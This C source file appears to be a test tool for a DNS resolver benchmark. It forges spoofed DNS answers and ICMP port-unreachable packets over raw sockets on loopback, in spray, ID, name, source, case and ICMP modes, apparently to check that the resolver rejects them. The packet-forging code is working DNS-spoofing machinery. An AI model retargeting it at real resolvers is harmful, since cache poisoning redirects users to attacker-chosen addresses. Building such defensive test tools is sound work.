/* flood.c: a forger beside a resolver, for bench/spoof.py: sends answers to a server's clients that the server never
 * gave, from raw sockets on the loopback interface of a network namespace.
 *
 *   flood ATTACK PORT COUNT EACH
 *
 * ATTACK: spray  - the question that is being asked, at random ports of the ephemeral range, with random IDs
 *         id     - the right port and question, random IDs
 *         name   - the right port and ID, another question
 *         source - the right port, ID and question, from another port or address
 *         case   - the right port, ID and question, in other letter case
 *         icmp   - "port unreachable" that quotes the right ports and a wrong ID
 * What it knows it reads off the wire, which a forger off the path cannot. It sends COUNT packets (or until it is
 * told to stop), EACH of them at a query, says how many on standard output, and never sends to anything but
 * 127.0.0.1.
 * SPDX-License-Identifier: MIT */
#include <arpa/inet.h>
#include <errno.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/udp.h>

#define FIRST_PORT 32768u /* net.ipv4.ip_local_port_range, as systems come */
#define LAST_PORT 60999u
#define NAME_AT 12

typedef struct forger {
  int raw, wire;
  const char *attack;
  uint16_t server_port;
  unsigned long count, each, sent, queries;
  uint64_t random;
  uint8_t query[512]; /* the last that was seen: the DNS message */
  uint32_t query_len, question_end;
  uint16_t client_port;
  uint32_t server; /* the address that was asked */
} forger;

static volatile sig_atomic_t told;

static void stop(int signal) {
  (void)signal;
  told = 1;
}

static uint32_t draw(forger *f) {
  f->random = f->random * 6364136223846793005u + 1442695040888963407u;
  return (uint32_t)(f->random >> 33);
}

/* The end of the question, or 0 when it is none. */
static uint32_t question_end(const uint8_t *query, uint32_t len) {
  uint32_t at = NAME_AT;
  while (at < len && query[at] != 0) at += query[at] + 1u;
  return at + 5 <= len ? at + 5 : 0;
}

/* Takes a packet off the wire; 1 if it is a query to the server. */
static int listen_once(forger *f, int flags) {
  uint8_t packet[2048];
  struct sockaddr_ll from;
  socklen_t size = sizeof from;
  ssize_t got = recvfrom(f->wire, packet, sizeof packet, flags, (struct sockaddr *)&from, &size);
  if (got < 28 || from.sll_pkttype == PACKET_OUTGOING) return 0;
  const struct iphdr *ip = (const struct iphdr *)packet;
  const struct udphdr *udp = (const struct udphdr *)(packet + ip->ihl * 4);
  uint32_t head = ip->ihl * 4u + sizeof *udp, len = (uint32_t)got - head;
  if (ip->protocol != IPPROTO_UDP || ntohs(udp->dest) != f->server_port || len > sizeof f->query) return 0;
  memcpy(f->query, packet + head, len);
  f->query_len = len;
  f->client_port = ntohs(udp->source);
  f->server = ntohl(ip->daddr);
  f->question_end = question_end(f->query, len);
  f->queries++;
  return f->question_end > 0;
}

static void send_raw(forger *f, uint8_t *packet, uint32_t len, uint8_t protocol, uint32_t source) {
  struct iphdr *ip = (struct iphdr *)packet;
  *ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons((uint16_t)len), .ttl = 64, .protocol = protocol};
  ip->saddr = htonl(source);
  ip->daddr = htonl(INADDR_LOOPBACK);
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = {ip->daddr}};
  if (sendto(f->raw, packet, len, 0, (struct sockaddr *)&to, sizeof to) == (ssize_t)len) f->sent++;
}

/* An answer to the last query, 66.66.66.66, wrong in what the attack is about. */
static void forge_answer(forger *f) {
  static const uint8_t record[] = {0xc0, NAME_AT, 0, 1, 0, 1, 0, 0, 1, 44, 0, 4, 66, 66, 66, 66};
  uint8_t packet[1024];
  struct udphdr *udp = (struct udphdr *)(packet + sizeof(struct iphdr));
  uint8_t *dns = (uint8_t *)(udp + 1);
  uint16_t from = f->server_port, to = f->client_port, id = (uint16_t)(f->query[0] * 256 + f->query[1]);
  uint32_t source = f->server;
  memcpy(dns, f->query, f->question_end);
  memcpy(dns + f->question_end, record, sizeof record);
  const uint8_t rest[10] = {0x81, 0x80, 0, 1, 0, 1, 0, 0, 0, 0};
  memcpy(dns + 2, rest, sizeof rest);
  if (strcmp(f->attack, "spray") == 0) to = (uint16_t)(FIRST_PORT + draw(f) % (LAST_PORT - FIRST_PORT + 1));
  if (strcmp(f->attack, "spray") == 0 || strcmp(f->attack, "id") == 0) id ^= (uint16_t)(1 + draw(f) % 65535);
  if (strcmp(f->attack, "name") == 0) dns[f->sent % 2 ? NAME_AT + 2 : f->question_end - 3] ^= 1;
  if (strcmp(f->attack, "source") == 0 && f->sent % 2 == 0) source += 100;
  if (strcmp(f->attack, "source") == 0 && f->sent % 2 == 1) from ^= 1;
  for (uint32_t i = NAME_AT; strcmp(f->attack, "case") == 0 && i < f->question_end - 4; i++)
    if ((dns[i] | 0x20) >= 'a' && (dns[i] | 0x20) <= 'z' && (draw(f) & 1 || i == NAME_AT + 1)) dns[i] ^= 0x20;
  dns[0] = (uint8_t)(id / 256);
  dns[1] = (uint8_t)id;
  uint32_t len = (uint32_t)sizeof *udp + f->question_end + (uint32_t)sizeof record;
  *udp = (struct udphdr){.source = htons(from), .dest = htons(to), .len = htons((uint16_t)len)}; /* no checksum */
  send_raw(f, packet, (uint32_t)sizeof(struct iphdr) + len, IPPROTO_UDP, source);
}

static uint16_t checksum(const uint8_t *octets, uint32_t len) {
  uint32_t sum = 0;
  for (uint32_t i = 0; i < len; i++) sum += i % 2 ? octets[i] : octets[i] * 256u;
  while (sum > 0xffff) sum = (sum & 0xffff) + (sum >> 16);
  return htons((uint16_t)~sum);
}

/* The client's own packet comes back, as it were, but with an ID that it did not send. */
static void forge_icmp(forger *f) {
  uint8_t packet[1024] = {0};
  struct icmphdr *icmp = (struct icmphdr *)(packet + sizeof(struct iphdr));
  struct iphdr *ip = (struct iphdr *)(icmp + 1);
  struct udphdr *udp = (struct udphdr *)(ip + 1);
  uint8_t *dns = (uint8_t *)(udp + 1);
  uint32_t len = (uint32_t)(sizeof *ip + sizeof *udp) + f->query_len;
  *icmp = (struct icmphdr){.type = ICMP_DEST_UNREACH, .code = ICMP_PORT_UNREACH};
  *ip = (struct iphdr){.version = 4, .ihl = 5, .tot_len = htons((uint16_t)len), .ttl = 64, .protocol = IPPROTO_UDP};
  ip->saddr = htonl(INADDR_LOOPBACK);
  ip->daddr = htonl(f->server);
  ip->check = checksum((const uint8_t *)ip, sizeof *ip);
  *udp = (struct udphdr){.source = htons(f->client_port), .dest = htons(f->server_port)};
  udp->len = htons((uint16_t)(sizeof *udp + f->query_len));
  memcpy(dns, f->query, f->query_len);
  dns[0] ^= (uint8_t)(1 + draw(f) % 255);
  icmp->checksum = checksum((const uint8_t *)icmp, (uint32_t)sizeof *icmp + len);
  send_raw(f, packet, (uint32_t)(sizeof(struct iphdr) + sizeof *icmp) + len, IPPROTO_ICMP, f->server);
}

int main(int argc, char **argv) {
  forger f = {.attack = argc > 4 ? argv[1] : "", .random = (uint64_t)time(NULL)};
  if (argc != 5) return 2;
  f.server_port = (uint16_t)atoi(argv[2]);
  f.count = strtoul(argv[3], NULL, 10);
  f.each = strtoul(argv[4], NULL, 10);
  f.raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  f.wire = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
  int size = 16 * 1024 * 1024;
  if (f.raw < 0 || f.wire < 0) {
    perror("flood");
    return 1;
  }
  setsockopt(f.raw, SOL_SOCKET, SO_SNDBUFFORCE, &size, sizeof size);
  setsockopt(f.wire, SOL_SOCKET, SO_RCVBUFFORCE, &size, sizeof size);
  signal(SIGTERM, stop);
  signal(SIGALRM, stop);
  struct timeval patience = {.tv_usec = 100000};
  setsockopt(f.wire, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
  puts("ready");
  fflush(stdout);
  int known = 0;
  while (!told && f.sent < f.count) {
    known |= listen_once(&f, strcmp(f.attack, "spray") == 0 && known ? MSG_DONTWAIT : 0);
    for (unsigned long n = 0; known && n < f.each && f.sent < f.count; n++)
      if (strcmp(f.attack, "icmp") == 0)
        forge_icmp(&f);
      else
        forge_answer(&f);
    if (strcmp(f.attack, "spray") != 0) known = 0; /* one burst at each query */
  }
  printf("{\"sent\": %lu, \"queries\": %lu}\n", f.sent, f.queries);
  return 0;
}
